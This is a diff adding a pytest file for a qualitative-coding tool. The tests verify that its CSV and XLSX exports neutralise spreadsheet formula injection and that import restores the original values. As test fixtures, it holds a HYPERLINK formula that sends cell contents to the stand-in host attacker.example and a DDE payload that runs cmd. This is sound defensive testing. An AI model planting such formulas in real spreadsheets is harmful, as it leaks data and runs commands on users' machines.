@@ -1,0 +1,184 @@
+"""Exports are opened in spreadsheets: no cell may start a formula, in CSV or XLSX, and import undoes it.
+
+The project holds the payloads the attack pass used: a HYPERLINK formula that leaks a neighbouring cell
+in transcript text and attribute values, a DDE command as a coder name, and formula-like code names.
+"""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+import zipfile
+
+import pytest
+from _hostile import transcript
+from hypothesis import given
+from hypothesis import strategies as st
+
+from wei_qual.cli import app
+from wei_qual.deid.redact import KeyEntry, render_key
+from wei_qual.models import Code, Codebook, Decision
+from wei_qual.spreadsheet import TRIGGERS, neutralise_cell, restore_cell
+from wei_qual.store import open_db, transaction
+from wei_qual.store.codebooks import save_codebook_version
+from wei_qual.store.decisions import iter_decisions, save_decision
+from wei_qual.store.transcripts import save_transcript
+
+LEAK = '=HYPERLINK("http://attacker.example/?leak="&A1, "Click for the full quote")'
+DDE = "=cmd|' /C calc'!A0"
+WORDS = " and then we waited for the crisis team to arrive at the house for two hours or more."
+CODEBOOK = Codebook(
+    name="=1+1",
+    version="1",
+    codes=(
+        Code("access", "+Access", definition="-2+3 is not a definition"),
+        Code("wait", "@SUM(1,2)", parent="access", definition=LEAK),
+        Code("beds", "=Beds", parent="access"),
+    ),
+)
+
+
+@pytest.fixture
+def project(tmp_path):
+    path = tmp_path / "study.db"
+    db = open_db(path)
+    with transaction(db):
+        save_transcript(
+            db, transcript("p1", [LEAK + WORDS, "-1 is what we scored it." + WORDS], {"role": LEAK})
+        )
+        save_transcript(
+            db, transcript("p2", ["@risk" + WORDS, "\tTabbed answer." + WORDS], {"role": "=officer"})
+        )
+        save_codebook_version(db, CODEBOOK, "name: x\n")
+    for coder, codes in ((DDE, {"wait"}), ("alice", {"wait"}), ("bob", {"beds"})):
+        for tid in ("p1", "p2"):
+            for n in (1, 2):
+                save_decision(db, Decision(tid, n, coder, frozenset(codes), note=f"=note by {coder}"))
+    db.close()
+    return path
+
+
+def _is_number(cell: str) -> bool:
+    try:
+        float(cell)
+    except ValueError:
+        return False
+    return True
+
+
+def _assert_inert(text: str) -> list[list[str]]:
+    rows = list(csv.reader(io.StringIO(text)))
+    for row in rows:
+        for cell in row:
+            assert not (cell[:1] in TRIGGERS and not _is_number(cell)), cell
+    return rows
+
+
+def _run(runner, args, db):
+    result = runner.invoke(app, [*args, "--db", str(db)], catch_exceptions=False)
+    assert result.exit_code == 0, result.stderr
+    return result
+
+
+@pytest.mark.parametrize(
+    "args",
+    [
+        ["report", "themes", "--source", "majority", "--by", "role", "--format", "csv"],
+        ["report", "quotes", "--source", "union", "--format", "csv"],
+        ["report", "matrix", "--source", DDE, "--format", "csv"],
+        ["decisions", "export"],
+        ["agree", "--disagreements", "--format", "csv", "--coders", f"alice,bob,{DDE}"],
+    ],
+)
+def test_every_csv_export_neutralises_formulas(runner, project, args):
+    rows = _assert_inert(_run(runner, args, project).stdout)
+    assert len(rows) > 1
+
+
+def test_the_payloads_stay_readable_in_the_csv(runner, project):
+    rows = _assert_inert(_run(runner, ["decisions", "export"], project).stdout)
+    assert ["p1", "1", "'" + DDE, "wait", "'=note by " + DDE] in rows
+    text = _run(runner, ["agree", "--disagreements", "--format", "csv"], project).stdout
+    assert "'" + LEAK + WORDS in [cell for row in _assert_inert(text) for cell in row]
+
+
+def test_codebook_and_key_csv_are_neutralised(runner, project, tmp_path):
+    _run(runner, ["codebook", "export", "--format", "csv", "-o", str(tmp_path / "cb.csv")], project)
+    rows = _assert_inert((tmp_path / "cb.csv").read_text(encoding="utf-8"))
+    assert rows[2][1:2] == ["'@SUM(1,2)"] and rows[2][5] == "'" + LEAK
+    key = render_key(
+        [KeyEntry("[PERSON-1]", "person", "=Maria Lopez"), KeyEntry("[ID-1]", "id_number", "-4417")], "csv"
+    )
+    assert _assert_inert(key)[1:] == [
+        ["[PERSON-1]", "person", "'=Maria Lopez"],
+        ["[ID-1]", "id_number", "'-4417"],
+    ]
+
+
+def test_decisions_export_re_imports_exactly(runner, project, tmp_path):
+    db = open_db(project)
+    tricky = [
+        "'=already quoted",
+        "''",
+        "'",
+        "+1",
+        "-",
+        "@home",
+        "\tindented",
+        "plain",
+        "'plain",
+        "=",
+        "\r\nx",
+    ]
+    for n, note in enumerate(tricky):
+        save_decision(db, Decision("p1", 1 + n % 2, f"c{n}", frozenset({"beds"}), note=note))
+    before = {(d.transcript, d.segment, d.coder): (d.codes, d.note) for d in iter_decisions(db)}
+    out = tmp_path / "all.csv"
+    _run(runner, ["decisions", "export", "-o", str(out)], project)
+    _assert_inert(out.read_text(encoding="utf-8"))
+    with transaction(db):
+        db.execute("DELETE FROM decisions")
+    db.close()
+    _run(runner, ["decisions", "import", str(out)], project)
+    after = {(d.transcript, d.segment, d.coder): (d.codes, d.note) for d in iter_decisions(open_db(project))}
+    assert after == before
+
+
+@given(st.text(max_size=12))
+def test_restore_undoes_neutralise_and_the_result_never_starts_a_formula(text):
+    cell = neutralise_cell(text)
+    assert restore_cell(cell) == text
+    assert cell[:1] not in TRIGGERS
+
+
+@pytest.mark.parametrize("kind", ["themes", "quotes", "matrix"])
+def test_xlsx_holds_text_as_text_and_numbers_as_numbers(runner, project, tmp_path, kind):
+    from openpyxl import load_workbook
+
+    out = tmp_path / f"{kind}.xlsx"
+    args = ["report", kind, "--source", "union", "-o", str(out)] + (
+        ["--by", "role"] if kind == "themes" else []
+    )
+    _run(runner, args, project)
+    with zipfile.ZipFile(out) as archive:
+        sheets = [archive.read(n) for n in archive.namelist() if n.startswith("xl/worksheets/")]
+    assert sheets and all(
+        b"<f>" not in sheet and b"<f " not in sheet for sheet in sheets
+    )  # no formula at all
+    values = []
+    for sheet in load_workbook(out).worksheets:
+        for row in sheet.iter_rows():
+            for cell in row:
+                assert cell.data_type in ("s", "n"), (cell.coordinate, cell.value)
+                if isinstance(cell.value, str) and cell.value[:1] in TRIGGERS:
+                    assert cell.quotePrefix  # Excel keeps it text even when someone edits the cell
+                values.append(cell.value)
+    expected = {"themes": "=officer", "quotes": LEAK + WORDS, "matrix": "=officer"}[kind]
+    assert expected in values  # exactly as coded: no apostrophe added to the value itself
+    assert any(isinstance(v, (int, float)) for v in values)
+
+
+def test_json_exports_are_left_exact(runner, project):
+    data = json.loads(_run(runner, ["decisions", "export", "--format", "json"], project).stdout)
+    assert {d["coder"] for d in data} == {DDE, "alice", "bob"}
